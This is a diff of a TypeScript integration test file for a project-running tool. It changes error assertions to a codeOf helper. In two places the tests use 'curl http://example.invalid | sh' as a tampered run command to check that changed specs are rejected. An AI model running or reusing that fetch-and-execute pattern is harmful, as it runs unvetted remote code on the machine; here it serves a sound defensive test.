@@ -2,7 +2,7 @@ import { chmodSync, existsSync, readFileSync, rmSync, statSync, symlinkSync, wri
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { planCosts } from '#contract/project/plan-costs.ts'
-import { everyFile } from '#test/berth/steps.ts'
+import { codeOf, everyFile } from '#test/berth/steps.ts'
 import { hasSshd } from '#test/integration/ssh/sshd.ts'
 import { lacks } from '#test/needs.ts'
 import { jobOf, openProject, write } from './place.ts'
@@ -68,9 +68,7 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
     expect(first?.offer.id).toBe(best.offer?.id)
     const plan = await under.run('planProject', { project, offer: chosen?.offer.id })
     expect(plan).toMatchObject({ offer: { id: chosen?.offer.id }, pricePerHour: chosen?.price })
-    await expect(under.run('planProject', { project, offer: 1 })).rejects.toMatchObject({
-      problem: { code: 'offer_unfit' },
-    })
+    expect(await codeOf(under.run('planProject', { project, offer: 1 }))).toBe('offer_unfit')
     const { content, stops, pricePerHour: price } = plan
     const asked = { project, offer: plan.offer?.id, content, stops, price, secretFiles: [] }
     const id = await under.run('runProject', asked)
@@ -101,9 +99,9 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
     const { content, stops } = await under.run('planProject', { project })
     write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n' })
     const asked = { project, content, stops, secretFiles: [] }
-    await expect(under.run('runProject', asked)).rejects.toMatchObject({ problem: { code: 'spec_changed' } })
+    expect(await codeOf(under.run('runProject', asked))).toBe('spec_changed')
     const id = await runProject()
-    await expect(runProject()).rejects.toMatchObject({ problem: { code: 'project_busy' } })
+    expect(await codeOf(runProject())).toBe('project_busy')
     await under.run('cancelRun', { run: id })
     expect(jobOf(under, id)?.step).toBe('cancelled')
     // It was cancelled while it searched for a machine, and may leave none.
@@ -115,9 +113,7 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
 
   test('of a folder without berth.yaml runs an agreed form and writes no file', async () => {
     const { under, folder, project } = await openProject({ 'data.txt': 'one\n' })
-    await expect(under.run('planProject', { project })).rejects.toMatchObject({
-      problem: { code: 'no_spec' },
-    })
+    expect(await codeOf(under.run('planProject', { project }))).toBe('no_spec')
     const draft = { run: 'cp data.txt result.txt', results: 'result.txt', stop: { idle: '1h30m' } }
     const { content, stops, known } = await under.run('planProject', { project, draft })
     expect({ stops, known }).toEqual({
@@ -126,9 +122,7 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
     })
     const asked = { project, content, stops, secretFiles: [] }
     const other = { ...draft, run: 'curl http://example.invalid | sh' }
-    await expect(under.run('runProject', { ...asked, draft: other })).rejects.toMatchObject({
-      problem: { code: 'spec_changed' },
-    })
+    expect(await codeOf(under.run('runProject', { ...asked, draft: other }))).toBe('spec_changed')
     const id = await under.run('runProject', { ...asked, draft })
     await under.until(() => jobOf(under, id)?.step === 'done')
     expect(readFileSync(join(folder, 'result.txt'), 'utf8')).toBe('one\n')
@@ -177,16 +171,12 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
     })
     for (const there of ['run: mine\n', 'not even: [a spec']) {
       write(folder, { 'berth.yaml': there })
-      await expect(under.run('writeSpec', { project, spec })).rejects.toMatchObject({
-        problem: { code: 'spec_exists' },
-      })
+      expect(await codeOf(under.run('writeSpec', { project, spec }))).toBe('spec_exists')
       expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(there)
     }
     rmSync(join(folder, 'berth.yaml'))
     symlinkSync(join(folder, 'elsewhere'), join(folder, 'berth.yaml'))
-    await expect(under.run('writeSpec', { project, spec })).rejects.toMatchObject({
-      problem: { code: 'spec_exists' },
-    })
+    expect(await codeOf(under.run('writeSpec', { project, spec }))).toBe('spec_exists')
     expect(existsSync(join(folder, 'elsewhere'))).toBe(false)
   })
 
@@ -196,9 +186,7 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
     })
     const content = under.berth.state().projects[project]?.content
     const change = { project, spec: { env: { A: 'b' }, run: 'python b.py' } }
-    await expect(under.run('writeSpec', { ...change, replaces: '0'.repeat(64) })).rejects.toMatchObject({
-      problem: { code: 'spec_changed' },
-    })
+    expect(await codeOf(under.run('writeSpec', { ...change, replaces: '0'.repeat(64) }))).toBe('spec_changed')
     chmodSync(join(folder, 'berth.yaml'), 0o600)
     await under.run('writeSpec', { ...change, replaces: content })
     expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(
@@ -206,9 +194,7 @@ describe.skipIf(lacking)(`a project’s run${lacking}`, () => {
     )
     expect(statSync(join(folder, 'berth.yaml')).mode & 0o777).toBe(0o600)
     expect(under.berth.state().projects[project]?.spec?.run).toBe('python b.py')
-    await expect(under.run('writeSpec', { ...change, replaces: content })).rejects.toMatchObject({
-      problem: { code: 'spec_changed' },
-    })
+    expect(await codeOf(under.run('writeSpec', { ...change, replaces: content }))).toBe('spec_changed')
   })
 
   test('that is outbid continues on another machine from its last checkpoint, and leaves no instance', async () => {
